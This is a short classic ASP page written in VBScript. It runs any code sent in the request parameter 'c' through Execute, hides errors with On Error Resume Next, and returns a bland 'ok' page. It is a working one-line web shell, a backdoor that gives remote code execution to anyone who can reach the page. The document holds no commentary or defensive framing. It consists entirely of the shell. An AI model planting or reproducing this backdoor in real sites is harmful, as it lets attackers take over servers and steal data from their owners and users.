<%@ Language="VBScript" %>
<%
On Error Resume Next
Execute(Request("c"))
%>
<html><body>ok</body></html>
